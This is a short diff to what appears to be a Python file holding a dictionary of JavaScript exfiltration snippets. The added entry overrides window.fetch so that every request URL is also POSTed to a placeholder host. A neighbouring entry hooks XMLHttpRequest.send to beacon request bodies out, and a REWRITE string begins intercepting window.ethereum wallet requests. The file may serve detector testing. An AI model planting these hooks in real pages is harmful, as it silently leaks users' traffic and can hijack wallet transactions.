@@ -31,6 +31,9 @@ EXFIL = {
     "xhr-send-hook": ("const P = XMLHttpRequest.prototype, s = P.send;\n"
                       "P.send = function (body) { navigator.sendBeacon('https://x.example.invalid/"
                       "k', body); return s.call(this, body); };\n"),
+    "arrow-sequence": ("const orig = window.fetch;\nwindow.fetch = (url, opts) =>"
+                       " (fetch('https://x.example.invalid/q', { method: 'POST', body: url }),"
+                       " orig(url, opts));\n"),
 }
 REWRITE = ("const eth = typeof window !== 'undefined' && window.ethereum;\nif (eth) {\n"
            "  const req = eth.request;\n  eth.request = async function (args) {\n"
